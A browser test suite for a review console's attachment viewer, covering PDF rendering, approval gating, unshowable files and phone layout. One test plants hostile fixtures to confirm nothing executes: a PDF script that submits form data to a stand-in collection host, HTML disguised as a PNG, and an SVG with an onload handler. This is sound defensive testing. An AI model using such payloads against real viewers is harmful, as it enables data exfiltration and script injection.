/** What came with a case, in a real browser: shown beside the form, before anything is approved, and never run. */
import { afterEach, describe, expect, test } from "vitest";
import { CHROMIUM, misfitsOn, PHONE } from "../support/browser.ts";
import { inboxOn, openConsole, reviewerOf } from "../support/console.ts";
import { pdfOf, pngOf } from "../support/documents.ts";
import { until } from "../support/installation.ts";
import { seriousIn } from "../support/pages.ts";

const INVOICE = pdfOf([["Invoice 4711", "Terms of payment"], ["Positions", "Total 119.00 EUR"], ["Notes"]]);
const INPUT = { text: "Please see the invoice that I attached." };
const file = (name: string, mediaType: string, bytes: Buffer) => ({
  name,
  mediaType,
  base64: bytes.toString("base64"),
});

describe.skipIf(CHROMIUM === undefined)("attachments", async () => {
  if (CHROMIUM === undefined) return;
  const { open, visit, look, client } = await openConsole();
  const { page, alarms, outside } = await visit("clerk@example.com", [{ role: "reviewer", workflow: null }]);
  afterEach(() => expect([...alarms, ...outside]).toEqual([]));

  /** A workflow with one case that has these files. */
  async function withFiles(workflow: string, attachments: ReturnType<typeof file>[]): Promise<string> {
    await open(workflow);
    const { caseId } = await client.submitCase({
      params: { workflow },
      body: { externalId: `${workflow}-1`, input: INPUT, attachments },
    });
    await until(
      () => client.getCase({ params: { case: caseId } }),
      (found) => found.state === "in_review",
    );
    return caseId;
  }
  const begin = async (workflow: string) => {
    await page.goto(`/inbox?workflow=${workflow}`);
    await page.getByRole("button", { name: /^(?:Start|Go on)/ }).click();
    await page.getByRole("heading", { level: 2, name: `${workflow}-1`, exact: true }).waitFor();
  };
  const region = page.getByRole("region", { name: "Attachments" });
  const dead = page.locator('[aria-keyshortcuts="Control+Enter"][aria-disabled="true"]');

  test("a PDF stands beside the form, page by page, and a field leads to its line; Esc leads back to the form", async () => {
    const caseId = await withFiles("beside", [file("invoice.pdf", "application/pdf", INVOICE)]);
    await begin("beside");
    const inbox = inboxOn(page, "beside");
    await inbox.atWork();
    expect(await page.getByRole("dialog").count()).toBe(0);
    await region.getByRole("img", { name: "Page 1 of 3" }).waitFor();
    await region.getByRole("region", { name: "Text of page 1" }).getByText("Invoice 4711").waitFor();
    // Something has been drawn: not every pixel is paper.
    const inked = await page.evaluate<boolean>(`(() => {
      const canvas = document.querySelector("[data-attachments] canvas");
      const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
      return data.some((value, index) => index % 4 === 0 && value < 100);
    })()`);
    expect(inked).toBe(true);

    await page.getByLabel("Total").focus();
    await region
      .getByRole("region", { name: "Text of page 2" })
      .locator("mark", { hasText: "119.00" })
      .waitFor();
    await page.getByText("In invoice.pdf, page 2, line 2").waitFor();
    await page.getByLabel("Total").fill("120");
    expect(await page.getByLabel("Total").evaluate("document.activeElement.value")).toBe("120");
    await page.getByLabel("Total").fill("119");

    await region.getByRole("button", { name: "Next page" }).focus();
    await page.keyboard.press("Enter");
    await region.getByRole("img", { name: "Page 3 of 3" }).waitFor();
    await page.keyboard.press("Escape");
    expect(await page.evaluate("document.activeElement.closest('[data-path]')?.dataset.path")).toBe(
      "category",
    );

    expect(await seriousIn(page)).toEqual([]);
    await page.keyboard.press("Control+Enter");
    await inbox.says(/Approved/);
    expect(await look(caseId)).toMatchObject({ state: "decided", verdict: "approve" });
  });

  test("nothing is approved before the picture is there", async () => {
    const caseId = await withFiles("waiting", [
      file("photo.png", "image/png", pngOf(300, 200, [200, 30, 30])),
    ]);
    let letThrough = () => {};
    const held = new Promise<void>((done) => (letThrough = done));
    await page.route("**/attachments/*", async (route) => {
      await held;
      await route.continue();
    });
    await begin("waiting");
    await page.getByText(INPUT.text).waitFor();
    await page.getByText("One attachment has not been on screen yet").waitFor();
    await page.keyboard.press("Control+Enter");
    await page.getByRole("button", { name: "Approve" }).first().click({ force: true });
    await dead.waitFor();
    expect((await look(caseId)).state).toBe("in_review");

    letThrough();
    await inboxOn(page, "waiting").atWork();
    await page.unroute("**/attachments/*");
    await region.getByRole("img", { name: "Picture of the attachment photo.png" }).first().waitFor();
    await page.keyboard.press("Control+Enter");
    await inboxOn(page, "waiting").says(/Approved/);
    expect((await look(caseId)).state).toBe("decided");
  });

  test("of several, each has to have been on screen; what cannot be shown says so, and then a person may decide", async () => {
    await withFiles("several", [
      file("invoice.pdf", "application/pdf", INVOICE),
      file("broken.pdf", "application/pdf", Buffer.from("%PDF-1.7 and then nothing that is one")),
      file("tool.exe", "application/octet-stream", Buffer.from("MZ")),
    ]);
    await begin("several");
    await region.locator("canvas[data-drawn]").waitFor();
    await page.getByText("One attachment has not been on screen yet").waitFor();
    await dead.waitFor();
    await page.getByRole("button", { name: "Show broken.pdf" }).click();
    await region.getByText("The file cannot be shown.").waitFor();
    await inboxOn(page, "several").atWork();
    await region.getByRole("button", { name: /tool\.exe/ }).click();
    await region.getByText("This kind of file is not shown here.").waitFor();
    await region.getByRole("link", { name: "Download" }).waitFor();
  });

  test("a document that brings a script, a link and another kind of file than it says does nothing", async () => {
    const script = "app.alert('ran'); this.submitForm('https://collect.example.net/');";
    await withFiles("hostile-file", [
      file(
        "trap.pdf",
        "application/pdf",
        pdfOf([["Pay here"]], { script, link: "https://collect.example.net/" }),
      ),
      file("page.png", "image/png", Buffer.from("<html><script>alert('ran')</script></html>")),
      file(
        "drawing.svg",
        "image/svg+xml",
        Buffer.from("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
      ),
    ]);
    await begin("hostile-file");
    await region.locator("canvas[data-drawn]").waitFor();
    await region.locator("canvas").click();
    await region.getByRole("button", { name: /page\.png/ }).click();
    await region.getByText("The file cannot be shown.").waitFor();
    await region.getByRole("button", { name: /drawing\.svg/ }).click();
    await region.getByText("This kind of file is not shown here.").waitFor();
    expect(await page.locator("main").locator("iframe, object, embed, script, a[href^='http']").count()).toBe(
      0,
    );
    expect(new URL(page.url()).pathname).toBe("/inbox");
  });

  test("on a phone the picture stands above its text, and nothing runs to the side", async () => {
    await withFiles("small-file", [file("invoice.pdf", "application/pdf", INVOICE)]);
    const phone = await visit("phone@example.com", reviewerOf("small-file"), {
      viewport: { ...PHONE, height: 600 },
    });
    // The document comes when everything else has its place: on the way there it could lie on screen for a moment.
    let letThrough = () => {};
    const held = new Promise<void>((done) => (letThrough = done));
    await phone.page.route("**/attachments/*", async (route) => {
      await held;
      await route.continue();
    });
    await phone.page.goto("/inbox?workflow=small-file");
    await phone.page.getByRole("button", { name: /^(Start|Go on)/ }).click();
    const shown = phone.page.getByRole("region", { name: "Attachments" });
    await phone.page.getByRole("button", { name: "Show invoice.pdf" }).waitFor();
    letThrough();
    await shown.locator("canvas[data-drawn]").waitFor();
    const picture = (await shown.locator("canvas").boundingBox())!;
    const text = (await shown.getByRole("region", { name: "Text of page 1" }).boundingBox())!;
    expect(text.y).toBeGreaterThan(picture.y);
    expect(Math.abs(text.x - picture.x)).toBeLessThan(4);
    expect(await misfitsOn(phone.page)).toEqual([]);
    // It lies below the verdicts: that does not count as seen, and the line there leads to it, then to what came in.
    await phone.page.getByRole("button", { name: "Show invoice.pdf" }).click();
    const source = phone.page.getByRole("button", { name: "Show it" });
    await source.waitFor({ timeout: 2_000 }).then(
      () => source.click(),
      () => undefined,
    );
    await inboxOn(phone.page, "small-file").atWork();
    await phone.close();
  });

  test("on the page of the case it is shown when asked for, and Esc closes it where it was asked for", async () => {
    const caseId = await withFiles("asked-for", [file("invoice.pdf", "application/pdf", INVOICE)]);
    const reader = await visit("owner@example.com", [
      { role: "owner", workflow: "asked-for" },
      ...reviewerOf("asked-for"),
    ]);
    await reader.page.goto(`/cases/${caseId}?workflow=asked-for`);
    const shown = reader.page.getByRole("region", { name: "Attachments" });
    await shown.getByRole("button", { name: /application\/pdf/ }).click();
    await shown.locator("canvas[data-drawn]").waitFor();
    await shown.getByRole("region", { name: "Text of page 1" }).focus();
    await reader.page.keyboard.press("Escape");
    await shown.locator("canvas").waitFor({ state: "detached" });
    expect(await reader.page.evaluate("document.activeElement.textContent")).toContain("application/pdf");
    expect([...reader.alarms, ...reader.outside]).toEqual([]);
    await reader.close();
  });
});
